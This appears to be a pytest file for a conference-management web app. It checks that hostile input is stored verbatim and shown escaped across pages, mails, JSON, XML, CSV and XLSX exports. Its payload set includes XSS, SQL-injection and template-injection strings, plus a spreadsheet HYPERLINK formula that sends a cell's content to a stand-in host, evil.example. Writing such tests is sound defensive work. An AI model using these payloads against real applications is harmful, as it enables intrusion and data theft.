"""Hostile text in every user-facing text field is stored verbatim and shown escaped.

Each test sends one payload through the real form (HTTP POST, as a visitor, partner or organiser would),
then checks that the database holds exactly that string and that every page, feed and export showing it
keeps it inert:

- HTML: the escaped form is there and the raw one is not (so ``<script>`` never reaches the browser as a
  tag), and template syntax shows literally (``{{7*7}}`` is never evaluated to 49);
- JSON (API, OParl, personal data export) and XML (schedule): the parsed value is the exact string;
- CSV: a cell that would start a formula carries a leading apostrophe; XLSX: no cell is a formula.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from xml.etree import ElementTree

import pytest
from markupsafe import escape
from openpyxl import load_workbook
from sqlalchemy import func, select

from conference.accounts.models import User
from conference.council import invitations
from conference.council.models import AgendaItem, Invitation, Recommendation
from conference.editions.models import Edition, EditionStatus
from conference.mail.models import OutboxMessage
from conference.mail.services import body_of
from conference.pages.models import AccessibilityFeedback
from conference.program.models import Session
from conference.registration.models import Registration
from conference.submissions.models import Submission
from conference.surveys.models import ActionItem, Audience, QuestionType, SurveyAnswer
from tests.council.invitation_setup import council_with_seats, invitation_of
from tests.factories import (
    make_call,
    make_council,
    make_edition,
    make_open_day,
    make_provider,
    make_slot,
    make_user,
)
from tests.surveys.analysis_setup import respond
from tests.surveys.answer_setup import make_question, make_survey
from tests.surveys.results_setup import question as bank_question

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "sql-drop": "'; DROP TABLE registration; --",
    "sql-or": "' OR '1'='1",
    "template": "{{7*7}} {{ config }} {% raw %}",
    "formula": '=HYPERLINK("http://evil.example/?"&A1;"klick")',
}
# What a spreadsheet program reads as the start of a formula (stated here, not imported from the code under test).
FORMULA_START = ("=", "+", "-", "@")
PAYLOADS = [pytest.param(text, id=name) for name, text in HOSTILE.items()]
# An e-mail address allows few special characters in its local part; these are valid and still hostile.
EMAIL_LOCAL_PARTS = {"script": "a&b", "attribute": "o'reilly", "sql-drop": "x'--", "sql-or": "'or'1'='1",
                     "template": "{{7*7}}", "formula": "=1+1"}


def page(client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return response.get_data(as_text=True)


def assert_escaped(html: str, text: str, where: str = "") -> None:
    """``text`` appears escaped (so template syntax appears literally, unevaluated) and never raw."""
    escaped = str(escape(text))
    assert escaped in html, f"{text!r} is not shown {where}"
    if escaped != text:
        assert text not in html, f"{text!r} appears unescaped {where}"


def assert_pages_escape(client, urls: list[str], *texts: str) -> None:
    for url in urls:
        html = page(client, url)
        for text in texts:
            assert_escaped(html, text, f"on {url}")


def strings_in(value) -> list[str]:
    """Every string in parsed JSON, so a value is compared exactly (not inside a repr)."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        value = list(value.values())
    return [s for item in value for s in strings_in(item)] if isinstance(value, list) else []


def json_strings(client, url: str) -> list[str]:
    response = client.get(url)
    assert response.status_code == 200 and response.is_json, url
    return strings_in(response.get_json())


def csv_cells(client, url: str) -> list[str]:
    response = client.get(url)
    assert response.status_code == 200, url
    return [cell for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";")
            for cell in row]


def assert_csv_cell(cells: list[str], text: str) -> None:
    """The cell holds the text; a formula is defused by a leading apostrophe, so it is never run."""
    assert ("'" + text if text.startswith(FORMULA_START) else text) in cells
    assert not any(cell.startswith(FORMULA_START) for cell in cells if text in cell)


def assert_xlsx_cell(client, url: str, text: str) -> None:
    response = client.get(url)
    assert response.status_code == 200, url
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets), "a cell is a formula"
    workbook = load_workbook(io.BytesIO(response.data))
    values = [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert text in values


def assert_mails_escape(db, template: str, text: str) -> None:
    """The HTML part of every queued ``template`` mail shows the text escaped."""
    mails = db.session.scalars(select(OutboxMessage).where(OutboxMessage.template == template)).all()
    assert mails, f"no {template} mail"
    for mail in mails:
        assert_escaped(body_of(mail)[1], text, f"in the {template} mail")


def sign_in(client, user, password="secret") -> None:
    client.post("/logout")
    assert client.post("/login", data={"email": user.email, "password": password}).status_code == 302


def staff(db, role="organiser") -> User:
    user = make_user(role)
    db.session.commit()
    return user


# --- Public and participant forms --------------------------------------------------------------------------------

@pytest.mark.parametrize(("text", "local"), [pytest.param(HOSTILE[name], EMAIL_LOCAL_PARTS[name], id=name)
                                           for name in HOSTILE])
def test_visitor_registration(client, db, text, local):
    edition, (session, _) = make_open_day(capacity=5)
    db.session.commit()
    email = f"{local}@example.org"
    response = client.post(f"/editions/{edition.id}/register", data={
        "name": text, "email": email, "organisation": text, "accessibility_needs": text,
        "accessibility_consent": "y", "session_ids": [session.id], "consent": "y"})
    assert response.status_code == 302, response.get_data(as_text=True)
    registration = db.session.scalar(select(Registration))
    assert (registration.name, registration.organisation, registration.accessibility_needs) == (text, text, text)
    assert registration.email == email
    manage = response.headers["Location"]
    assert_mails_escape(db, "registration_confirm", text)

    assert_pages_escape(client, [manage, f"{manage}/my-data"], text)
    assert_escaped(page(client, f"{manage}/my-data"), email)
    assert {text, email} <= set(json_strings(client, f"{manage}/my-data.json"))
    sign_in(client, staff(db))
    assert_pages_escape(client, [f"/manage/editions/{edition.id}/sessions/{session.id}"], text)
    assert db.session.scalar(select(func.count(Registration.id))) == 1  # the table the SQL payload names is intact


@pytest.mark.parametrize("text", PAYLOADS)
def test_partner_sign_up(client, db, text):
    response = client.post("/signup/partner", data={
        "organisation_name": text, "organisation_kind": "culture", "name": text, "email": "petra@example.org",
        "password": "ein-gutes-passwort", "confirm": "ein-gutes-passwort", "consent": "y"})
    assert response.status_code == 302, response.get_data(as_text=True)
    user = db.session.scalar(select(User).where(User.email == "petra@example.org"))
    assert (user.name, user.organisation.name) == (text, text)
    assert_mails_escape(db, "partner_confirm", text)
    mail = db.session.scalar(select(OutboxMessage).where(OutboxMessage.template == "partner_confirm"))
    confirm = re.search(r"http://localhost(/signup/partner/confirm/\S+)", mail.body_text).group(1)
    assert client.get(confirm).status_code in (200, 302)
    assert_mails_escape(db, "partner_pending", text)
    sign_in(client, staff(db))
    assert_pages_escape(client, ["/manage/partners/"], text)


@pytest.mark.parametrize("text", PAYLOADS)
def test_accessibility_feedback(client, db, text):
    organiser = staff(db)  # receives the feedback by mail
    response = client.post("/barrierefreiheit", data={"message": text, "name": text, "page_url": text})
    assert response.status_code == 302, response.get_data(as_text=True)
    feedback = db.session.scalar(select(AccessibilityFeedback))
    assert (feedback.message, feedback.name, feedback.page_url) == (text, text, text)
    assert_mails_escape(db, "accessibility_feedback", text)
    sign_in(client, organiser)
    assert_pages_escape(client, ["/manage/feedback"], text)


@pytest.mark.parametrize("text", PAYLOADS)
def test_survey_free_text(client, db, text):
    edition = make_edition(status=EditionStatus.HELD)
    comments = make_question(QuestionType.FREE_TEXT, key="comments")
    survey = make_survey(edition, Audience.VISITORS, [comments], is_open_link=True)
    db.session.commit()
    response = client.post(f"/s/{survey.open_key}", data={f"q{comments.id}": text})
    assert response.status_code == 303, response.get_data(as_text=True)
    assert db.session.scalar(select(SurveyAnswer.text)) == text
    for n in range(4):  # free texts show from five answers on
        respond(survey, {comments: f"Anmerkung {n}"})
    db.session.commit()
    sign_in(client, staff(db, "analyst"))
    base = f"/manage/editions/{edition.id}/results/surveys/{survey.id}"
    assert_pages_escape(client, [f"{base}/"], text)
    assert_csv_cell(csv_cells(client, f"{base}/responses.csv"), text)
    assert_xlsx_cell(client, f"{base}/responses.xlsx", text)


@pytest.mark.parametrize("text", PAYLOADS)
def test_rsvp_note(client, db, text):
    edition, (seat,) = council_with_seats(1)
    invitations.generate_invitations(edition)
    db.session.commit()
    rsvp = f"/rsvp/{invitation_of(edition, seat).token}"
    response = client.post(rsvp, data={"status": "attending", "note": text})
    assert response.status_code in (302, 303), response.get_data(as_text=True)
    assert db.session.scalar(select(Invitation.note)) == text
    assert_pages_escape(client, [rsvp], text)
    sign_in(client, staff(db))
    assert_pages_escape(client, [f"/manage/editions/{edition.id}/council/"], text)


# --- Partner offers -----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("text", PAYLOADS)
def test_offer_submission(client, db, text):
    edition = make_edition()
    slot = make_slot(edition)
    make_call(edition)
    provider = make_provider()
    db.session.commit()
    sign_in(client, provider)
    response = client.post(f"/partner/editions/{edition.id}/offers/new", data={
        "kind": "workshop", "title": text, "abstract": text, "notes": text, "target_groups": ["primary"],
        "topics": ["digital"], "expected_audience": "15", "slot_ids": [str(slot.id)],
        "co_presenters-0-name": text, "co_presenters-0-email": "karl@example.org", "submit": "1"})
    assert response.status_code == 302, response.get_data(as_text=True)
    offer = db.session.scalar(select(Submission))
    assert (offer.title, offer.abstract, offer.notes, offer.co_presenters[0].name) == (text, text, text, text)
    assert_mails_escape(db, "submission_received", text)
    assert_pages_escape(client, ["/partner/", f"/partner/offers/{offer.id}"], text)

    sign_in(client, staff(db))
    base = f"/manage/editions/{edition.id}/submissions"
    assert_pages_escape(client, [f"{base}/", f"{base}/{offer.id}"], text)
    assert_csv_cell(csv_cells(client, f"{base}.csv"), text)
    assert_xlsx_cell(client, f"{base}.xlsx", text)


# --- Organiser forms ----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("text", PAYLOADS)
def test_edition_title_and_description(client, db, text):
    sign_in(client, staff(db))
    response = client.post("/manage/editions/new", data={
        "number": "", "format": "open_day", "title": text, "theme": text, "description": text,
        "starts_at": "2027-05-08T10:00", "ends_at": "2027-05-08T16:00"})
    assert response.status_code == 302, response.get_data(as_text=True)
    edition = db.session.scalar(select(Edition))
    assert (edition.title, edition.theme, edition.description) == (text, text, text)
    assert client.post(f"/manage/editions/{edition.id}/status", data={"target": "published"}).status_code == 302
    assert_pages_escape(client, ["/manage/", "/manage/editions/", f"/manage/editions/{edition.id}",
                                 f"/manage/editions/{edition.id}/edit"], text)
    client.post("/logout")
    assert_pages_escape(client, ["/", f"/editions/{edition.id}", f"/editions/{edition.id}/program"], text)
    assert text in json_strings(client, "/api/v1/editions")


@pytest.mark.parametrize("text", PAYLOADS)
def test_session_title_and_description(client, db, text):
    edition, (a, _) = make_open_day()
    db.session.commit()
    sign_in(client, staff(db))
    response = client.post(f"/manage/editions/{edition.id}/sessions/new", data={
        "kind": "talk", "title": text, "description": text, "room_id": a.room_id, "slot_id": a.slot_id,
        "capacity": "30", "registration_required": "y", "is_published": "y"})
    assert response.status_code == 302, response.get_data(as_text=True)
    session = db.session.scalar(select(Session).where(Session.title == text))
    assert session.description == text
    assert_pages_escape(client, [f"/manage/editions/{edition.id}/sessions/",
                                 f"/manage/editions/{edition.id}/sessions/{session.id}",
                                 f"/manage/editions/{edition.id}/schedule/"], text)
    client.post("/logout")
    assert_pages_escape(client, [f"/editions/{edition.id}/program", f"/editions/{edition.id}/sessions/{session.id}",
                                 f"/editions/{edition.id}/register"], text)
    for url in (f"/api/v1/editions/{edition.id}/sessions", f"/editions/{edition.id}/schedule.json"):
        assert text in json_strings(client, url), url
    xml = ElementTree.fromstring(client.get(f"/editions/{edition.id}/schedule.xml").data)  # noqa: S314 - our own output
    assert text in [element.text for element in xml.iter("title")]


@pytest.mark.parametrize("text", PAYLOADS)
def test_agenda_item_and_recommendation(client, db, text):
    edition = make_council(day=date(2027, 3, 10))
    db.session.commit()
    sign_in(client, staff(db))
    agenda = f"/manage/editions/{edition.id}/council/agenda"
    response = client.post(f"{agenda}/new", data={"number": "TOP 1", "title": text, "description": text,
                                                  "is_public": "y"})
    assert response.status_code == 302, response.get_data(as_text=True)
    item = db.session.scalar(select(AgendaItem))
    assert (item.title, item.description) == (text, text)
    response = client.post(f"{agenda}/items/{item.id}/recommendations",
                           data={"recommendation-title": text, "recommendation-text": text})
    assert response.status_code == 302, response.get_data(as_text=True)
    recommendation = db.session.scalar(select(Recommendation))
    assert (recommendation.title, recommendation.text) == (text, text)
    assert client.post(f"{agenda}/recommendations/{recommendation.id}/decision",
                       data={"decision": "adopted"}).status_code == 302
    assert_pages_escape(client, [f"{agenda}/", f"{agenda}/items/{item.id}",
                                 f"{agenda}/recommendations/{recommendation.id}",
                                 f"/manage/council/follow-up/recommendations/{recommendation.id}"], text)
    client.post("/logout")
    assert_pages_escape(client, [f"/editions/{edition.id}", "/recommendations/",
                                 f"/recommendations/{recommendation.id}"], text)
    for url in (f"/oparl/v1/agenda-item/{item.id}", f"/oparl/v1/paper/{recommendation.id}"):
        assert text in json_strings(client, url), url


@pytest.mark.parametrize("text", PAYLOADS)
def test_action_item(client, db, text):
    source = make_edition(number=21, status=EditionStatus.EVALUATED, day=date(2026, 5, 8))
    make_edition(number=23, status=EditionStatus.HELD, day=date(2027, 5, 8))
    bank_question("overall_satisfaction")
    db.session.commit()
    sign_in(client, staff(db))
    response = client.post("/manage/actions/new", data={
        "source_edition_id": source.id, "question_key": "overall_satisfaction", "metric": "", "title": text,
        "description": text, "owner": text, "status": "open", "target_edition_id": 0})
    assert response.status_code == 302, response.get_data(as_text=True)
    action = db.session.scalar(select(ActionItem))
    assert (action.title, action.description, action.owner) == (text, text, text)
    assert_pages_escape(client, ["/manage/actions/", f"/manage/actions/{action.id}/edit",
                                 f"/manage/editions/{source.id}/findings/"], text)
